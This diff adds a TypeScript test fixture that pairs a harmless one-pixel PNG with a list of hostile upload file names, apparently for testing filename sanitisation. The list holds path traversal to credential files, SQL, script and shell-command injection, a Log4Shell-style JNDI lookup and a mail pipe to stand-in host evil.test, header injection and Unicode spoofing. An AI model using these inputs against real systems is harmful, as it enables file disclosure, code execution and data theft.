@@ -1,0 +1,53 @@
+import { deflateSync } from 'node:zlib'
+import type { HostileFile } from './hostile-file.ts'
+import { pngOf } from './png.ts'
+
+/** Names that mean harm, on a picture that means none. */
+export function hostileNames(): HostileFile[] {
+	const picture = pngOf({ width: 1, height: 1, bitDepth: 8, colour: 0 }, deflateSync(Buffer.from([0, 0])))
+	return names.map((name) => ({
+		what: `the name ${JSON.stringify(name.slice(0, 40))}`,
+		name,
+		bytes: () => picture,
+		fate: 'harmless',
+	}))
+}
+
+const names = [
+	'../../../../etc/passwd',
+	'..\\..\\..\\windows\\system32\\config\\sam',
+	'/etc/cron.d/lotwise',
+	'C:\\Users\\Public\\run.exe',
+	'\\\\evil.test\\share\\a.png',
+	'%2e%2e%2fpasswd',
+	'..∕..∕passwd.png',
+	'licence\0.php',
+	'\0',
+	'licence\u202egnp.exe',
+	'\u2066licence\u2069.png',
+	`${'a'.repeat(4_090)}.png`,
+	`${'ü'.repeat(2_000)}.png`,
+	`${'../'.repeat(1_000)}x.png`,
+	'.',
+	'..',
+	'.htaccess',
+	'   ',
+	'con.png',
+	'licence.png.exe',
+	'licence.php;.png',
+	'licence.png/',
+	'licence.png::$DATA',
+	"'; drop table credit_document; --.png",
+	'<img src=x onerror=alert(1)>.png',
+	'$(reboot).png',
+	'`id`.png',
+	'| mail evil@evil.test .png',
+	'-rf.png',
+	'\u0024{jndi:ldap://evil.test/a}.png',
+	'{{7*7}}.png',
+	'=HYPERLINK("https://evil.test")',
+	'a\r\nset-cookie: session=stolen.png',
+	'a\tb\u0007\u001b[31m.png',
+	'Z̷̢̛͎͎a̶l̸g̵o̶.png',
+	'😀'.repeat(300),
+]
